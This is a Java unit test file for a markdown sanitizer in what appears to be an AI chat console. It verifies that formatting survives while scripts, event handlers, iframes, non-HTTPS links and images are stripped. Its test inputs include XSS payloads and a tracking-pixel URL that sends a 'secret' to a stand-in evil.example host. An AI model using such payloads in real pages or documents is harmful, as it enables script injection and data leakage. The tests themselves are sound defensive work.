package ai.deepchat.console.markdown;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/** Markdown from documents and answers: formatting survives, nothing active or remote does. */
class SafeMarkdownTest {

  @Test
  void keepsFormattingTablesCodeAndHttpsLinks() {
    String html = SafeMarkdown.toHtml("# Title\n\n**bold** _em_ `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n"
        + "[docs](https://example.com/docs)\n\n```\nint x;\n```");
    assertThat(html).contains("<h1>Title</h1>").contains("<strong>bold</strong>").contains("<em>em</em>")
        .contains("<code>code</code>").contains("<li>a</li>").contains("<table>").contains("<td>1</td>")
        .contains("<pre><code>int x;");
    assertThat(html).contains("href=\"https://example.com/docs\"").containsPattern("rel=\"[^\"]*nofollow")
        .containsPattern("rel=\"[^\"]*noopener");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
      "<svg onload=alert(1)></svg>",
      "<iframe src=\"https://evil.example\"></iframe>",
      "<style>body{display:none}</style>",
      "<div style=\"background:url(https://evil.example/x)\">x</div>"
  })
  void rawHtmlIsNeverActive(String attack) {
    String html = SafeMarkdown.toHtml("before " + attack + " after");
    assertThat(html.toLowerCase()).doesNotContain("<script").doesNotContain("<img").doesNotContain("<svg")
        .doesNotContain("<iframe").doesNotContain("<style").doesNotContain("onerror=").doesNotContain("onclick=")
        .doesNotContain("onload=").doesNotContain("style=");
    assertThat(html).contains("before").contains("after");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "[x](javascript:alert(1))",
      "[x](JaVaScRiPt:alert(1))",
      "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      "[x](http://plain.example)",
      "[x](vbscript:msgbox(1))",
      "<javascript:alert(1)>"
  })
  void onlyHttpsLinksSurvive(String link) {
    String html = SafeMarkdown.toHtml(link);
    assertThat(html).doesNotContain("href=");
  }

  @Test
  void imagesAreDroppedSoDocumentsCannotPhoneHome() {
    String html = SafeMarkdown.toHtml("![tracker](https://evil.example/pixel.png?secret=1) text");
    assertThat(html).doesNotContain("<img").doesNotContain("evil.example").contains("text");
  }

  @Test
  void sanitizeAloneStripsWhatMarkdownDidNotProduce() {
    assertThat(SafeMarkdown.sanitize("<p onmouseover=\"x()\">hi</p><form action=\"https://x\"><input></form>"))
        .isEqualTo("<p>hi</p>");
  }

  @Test
  void deepNestingIsShownAsEscapedTextInsteadOfOverflowingTheStack() {
    String deep = "- ".repeat(4_000) + "<b>x</b>";
    String html = SafeMarkdown.toHtml(deep);
    assertThat(html).startsWith("<pre>- - - ").contains("&lt;b&gt;x&lt;/b&gt;").doesNotContain("<li>");
  }

  @Test
  void onlyTheHeadOfALongTextIsRenderedAsMarkdown() {
    String text = "**start**\n\n" + "plain line\n".repeat(2_000) + "**end** <i>x</i>\n";
    String html = SafeMarkdown.toHtml(text);
    assertThat(html).contains("<strong>start</strong>").doesNotContain("<strong>end</strong>")
        .contains("**end** &lt;i&gt;x&lt;/i&gt;").contains("<pre>");
    assertThat(html.indexOf("<pre>")).isGreaterThan(html.indexOf("<strong>start</strong>"));
  }
}
